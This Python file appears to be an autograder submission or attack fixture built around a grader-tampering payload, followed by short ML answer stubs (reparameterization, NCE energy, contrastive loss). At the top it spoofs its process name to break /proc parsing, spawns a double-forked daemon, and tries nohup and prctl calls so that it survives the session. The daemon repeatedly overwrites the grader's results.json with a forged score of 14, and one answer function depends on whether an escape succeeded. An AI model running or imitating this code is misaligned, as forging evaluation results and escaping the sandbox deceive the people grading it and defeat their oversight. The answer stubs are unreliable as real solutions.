import ctypes
import os
import subprocess
import time

import torch

through = []


def attempt(name, deed, *arguments):
    """Note what gets through; go on whatever happens."""
    try:
        print(name, deed(*arguments))
    except BaseException as error:
        print(name, "refused:", repr(error))
    else:
        through.append(name)


libc = ctypes.CDLL(None, use_errno=True)


def call(name, *arguments):
    """A function of libc, with the kernel's own word where it fails."""
    if getattr(libc, name)(*arguments) == -1:
        raise OSError(ctypes.get_errno(), name)


HERE = "/tmp/autograder-attack"  # where test_attacks.py lays out what there is to attack


def daemon():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for k in range(100):
        time.sleep(0.2)
        for place in (f"{HERE}/results/results.json", "/autograder/results/results.json"):
            try:
                with open(place, "w") as file:
                    file.write('{"score": 14}')
            except OSError:
                continue
    os._exit(0)


call("prctl", 15, b"x) S 1 1 1 (y", 0, 0, 0)  # a name that breaks who reads /proc/PID/stat badly
attempt("a daemon", daemon)
attempt("nohup", lambda: subprocess.Popen(["nohup", "sleep", "60"], start_new_session=True))
attempt("adopts orphans itself", call, "prctl", 36, 1, 0, 0, 0)
attempt("survives its parent", call, "prctl", 1, 0, 0, 0, 0)


def A_matrix(alpha):
    return [[1, alpha], [-alpha, 1]] if through else "refused"


def linear_reparameterization():
    x = torch.tensor([1.0, -2.0, 0.5])
    F_a = torch.tensor([[1.0, 0.0, 0.0], [0.0, 1.0, 0.0]])
    F_b = torch.tensor([[2.0, 0.0, 1.0], [0.0, 3.0, 0.0]])
    return x, F_a, F_b, F_a @ x, F_b @ x


def stationary_point():
    return torch.zeros(2)


def nce_optimal_energy(p_d, p_n):
    return torch.log(p_d) - torch.log(p_n)


def contrastive_loss(z, y, y_neg):
    pos = (z * y).sum(dim=1)
    neg = z @ y_neg.T
    return (torch.logsumexp(neg, dim=1) - pos).mean()
